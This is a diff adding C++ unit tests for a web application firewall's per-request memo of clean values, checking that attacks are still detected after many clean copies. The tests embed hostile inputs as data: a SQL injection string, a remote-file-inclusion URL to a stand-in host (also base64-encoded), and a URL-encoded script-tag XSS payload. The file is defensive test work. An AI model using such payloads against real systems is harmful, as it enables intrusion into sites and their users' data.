@@ -1,0 +1,69 @@
+// The per-request memo of clean values (transaction.cc): a value seen clean before in the
+// same request is skipped, but never when the place it appears in changes the answer (an
+// argument name, the JSON path that RFI reads, another kind of location), and never when the
+// first copy was not clean.
+#include <gtest/gtest.h>
+
+#include <string>
+
+#include "tests/cnaf/waf/waf_test_util.h"
+
+namespace defender::cnaf::waf {
+namespace {
+
+using testing::all;
+using testing::Request;
+
+Verdict run(Request& r) {
+  const Waf waf(all(policy::Mode::prevent));
+  return waf.inspect_content(r.view());
+}
+
+TEST(WafMemo, RepeatedCleanValuesStayClean) {
+  Request r;
+  std::string json = "{\"items\":[";
+  for (int i = 0; i < 300; ++i)
+    json += std::string(i ? "," : "") + "{\"id\":" + std::to_string(i) +
+            ",\"description\":\"A plain description of the item, nothing special.\"}";
+  json += "]}";
+  r.post("application/json", json);
+  EXPECT_TRUE(run(r).allowed());
+}
+
+TEST(WafMemo, AttackAfterManyCleanCopiesIsFound) {
+  Request r;
+  std::string json = "{\"items\":[";
+  for (int i = 0; i < 300; ++i) json += std::string(i ? "," : "") + "{\"q\":\"plain words here\"}";
+  json += ",{\"q\":\"1' or '1'='1\"}]}";
+  r.post("application/json", json);
+  const Verdict v = run(r);
+  ASSERT_FALSE(v.allowed());
+  EXPECT_EQ(v.findings.front().protection, "sqli");
+}
+
+TEST(WafMemo, NameThatChangesTheAnswerIsPartOfTheKey) {
+  // The same remote URL is harmless as a page link and an RFI in an include argument.
+  Request q;
+  q.target = "/p?link=http://evil.example/shell.txt&include=http://evil.example/shell.txt";
+  const Verdict v = run(q);
+  ASSERT_FALSE(v.allowed());
+  EXPECT_EQ(v.findings.front().location, "query:include");
+  // JSON: the path names the value; base64 is decoded and read with its name.
+  Request j;
+  const std::string b64 = "aHR0cDovL2V2aWwuZXhhbXBsZS9zaGVsbC50eHQ=";  // http://evil.example/shell.txt
+  j.post("application/json", "{\"a\":\"" + b64 + "\",\"include\":\"" + b64 + "\"}");
+  Request one;
+  one.post("application/json", "{\"include\":\"" + b64 + "\"}");
+  EXPECT_EQ(run(j).allowed(), run(one).allowed());
+}
+
+TEST(WafMemo, OnlyCleanResultsAreKept) {
+  Request alert;
+  const Waf waf(all(policy::Mode::alert));
+  alert.target = "/s?a=%3Cscript%3Ealert(1)%3C/script%3E&b=%3Cscript%3Ealert(1)%3C/script%3E";
+  // Alert mode keeps inspecting: both copies are reported (only clean results are kept).
+  EXPECT_EQ(waf.inspect_content(alert.view()).findings.size(), 2u);
+}
+
+}  // namespace
+}  // namespace defender::cnaf::waf
